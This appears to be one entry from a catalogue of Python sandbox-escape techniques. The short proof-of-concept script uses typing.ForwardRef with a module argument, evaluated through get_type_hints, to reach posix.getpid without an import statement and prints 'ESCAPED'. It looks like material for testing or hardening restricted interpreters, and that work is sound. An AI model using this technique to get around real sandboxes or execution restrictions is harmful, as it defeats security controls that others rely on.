# technique: ForwardRef(module=) evaluates in the module that it names
# goal: import
# source: own analysis: sys.modules in trusted code
import typing


class X:
    a: 'int'


X.__annotations__['a'] = typing.ForwardRef('getpid', module='posix')
print('ESCAPED pid=%d' % typing.get_type_hints(X, {}, {})['a']())
